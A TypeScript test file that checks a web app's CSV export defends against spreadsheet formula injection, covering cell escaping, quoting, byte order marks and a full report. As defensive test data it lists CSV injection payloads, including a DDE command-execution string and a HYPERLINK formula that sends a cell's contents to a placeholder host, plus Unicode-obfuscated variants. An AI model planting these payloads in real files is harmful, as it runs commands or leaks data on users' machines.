import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Answer } from '../../src/web/answer.ts';
import { csvCell, csvOf } from '../../src/web/csv.ts';
import { csvReport } from '../../src/web/exports.ts';
import { en } from '../../src/web/locales/en.ts';
import { fr } from '../../src/web/locales/fr.ts';
import { CANNED, CORPORA } from './canned.ts';

/** By a reader that nobody here wrote, strict about quotes and the number of cells. */
const read = (text: string, delimiter: string): string[][] =>
  parse(text, { bom: true, delimiter, record_delimiter: '\r\n', relax_column_count: false });

describe('csv', () => {
  test('no cell is a formula to a spreadsheet program', () => {
    const harmful = [
      '=cmd|’ /C calc’!A0',
      '+1+1',
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      ' =1',
      '\u202f=1',
      '\n=1',
      '\ufeff=1',
      '\u3000=1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(1)',
      // What a program drops or does not show hides no formula behind it.
      '\u202e=1',
      '\u200b=1',
      '\u2066+1',
      '\0=1',
      '\x1b@SUM(1)',
    ];
    for (const value of harmful) expect(csvCell(value)).toBe(`"'${value}"`);
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('12-date.eml')).toBe('"12-date.eml"');
  });

  test('begins with a byte order mark and ends lines with CRLF', () => {
    expect(
      csvOf(
        [
          ['é', '1'],
          ['"x"', 'y;z'],
        ],
        ';',
      ),
    ).toBe('\ufeff"é";"1"\r\n"""x""";"y;z"\r\n');
  });

  test('whatever the cells, they are read back, but for the apostrophe', () => {
    const cell = fc.string({ unit: 'binary' });
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1 }), (rows) => {
        for (const separator of [';', ','] as const) {
          const found = read(csvOf(rows, separator), separator);
          expect(found.length).toBe(rows.length);
          for (const [at, row] of rows.entries()) {
            for (const [place, value] of row.entries()) {
              const got = found[at]?.[place] ?? '';
              expect([value, `'${value}`]).toContain(got);
              expect(/^[=+\-@]/.test(got)).toBe(false);
            }
          }
        }
      }),
    );
  });
});

describe('a whole report', () => {
  /** Names of files as whoever leaked them chose them; behind each, what a cell of it holds. */
  const NAMES: [name: string, cell: string][] = [
    ['facture.pdf', 'facture.pdf'],
    [
      '=HYPERLINK("https://a.example/?x="&A1;"ouvrir")',
      '\'=HYPERLINK("https://a.example/?x="&A1;"ouvrir")',
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+33 6 00 00 00 00.vcf', "'+33 6 00 00 00 00.vcf"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['a";"b,c".eml', 'a";"b,c".eml'],
    ['"', '"'],
    ['two\nlines.txt', 'two\nlines.txt'],
    ['one\r\n"=1","x"\r\n.txt', 'one\r\n"=1","x"\r\n.txt'],
    ['\r\n=1', "'\r\n=1"],
    ['\u202egpj.=1+1', '\u202egpj.=1+1'],
    ['\u2067=1+1\u2069.pdf', "'\u2067=1+1\u2069.pdf"],
    ['\ufeff=1', "'\ufeff=1"],
    ['é\u0301\u{1f5f3}\ud83d\ude00.docx', 'é\u0301\u{1f5f3}\ud83d\ude00.docx'],
    ['', ''],
  ];
  const registrant = '=1+1;"Campagne\r\n@Estuaire"';
  const context = { consulted: CORPORA, closed: [], at: '2031-04-26T09:12:00Z' };
  const answers = NAMES.map(([name], at): Answer => {
    const common = { id: `f${at}`, name, size: at, fingerprint: null, partNames: {} };
    if (at % 4 === 1) return { ...common, outcome: { kind: 'unread', problem: 'encrypted' } };
    if (at % 4 === 2) {
      return { ...common, outcome: { kind: 'failed', failure: { code: 'unhealthy' } } };
    }
    const result = { ...CANNED[at % 4 === 3 ? 'absent' : 'identical'], registrant };
    const copies = NAMES.map(([copy]) => copy);
    return {
      ...common,
      outcome: { kind: 'answered', result, context },
      ...(at === 0 && { copies }),
    };
  });

  test.each([
    ['fr', fr, ';'],
    ['en', en, ','],
  ] as const)(
    'in %s has a row a file and a cell a column, whatever the names',
    (_, t, separator) => {
      const [head = [], ...rows] = read(csvReport(t, answers, null), separator);
      const column = (name: string, of = rows) => of.map((row) => row[head.indexOf(name)]);
      expect(new Set(head).size).toBe(18);
      // The first file, its copies, and the other files.
      const [first, copies, rest] = [rows.slice(0, 1), rows.slice(1, 18), rows.slice(18)];
      expect(rows).toHaveLength(1 + NAMES.length + NAMES.length - 1);
      const cells = NAMES.map(([, cell]) => cell);
      expect(column('file', [...first, ...rest])).toEqual(cells);
      expect(column('file', copies)).toEqual(cells);
      expect(new Set(column('copy_of', copies))).toEqual(new Set(['facture.pdf']));
      expect(column('size', rest)).toEqual(NAMES.slice(1).map((_name, at) => `${at + 1}`));
      const answered = (at: number) =>
        at % 4 === 0 ? 'match' : at % 4 === 3 ? 'absent' : 'undecided';
      expect(column('verdict', rest)).toEqual(NAMES.slice(1).map((_name, at) => answered(at + 1)));
      expect(column('reason', rest.slice(0, 2))).toEqual(['encrypted', 'unhealthy']);
      expect(column('registrant', first)).toEqual([`'${registrant}`]);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\p{C}]*[=+@-]/u);
    },
  );
});
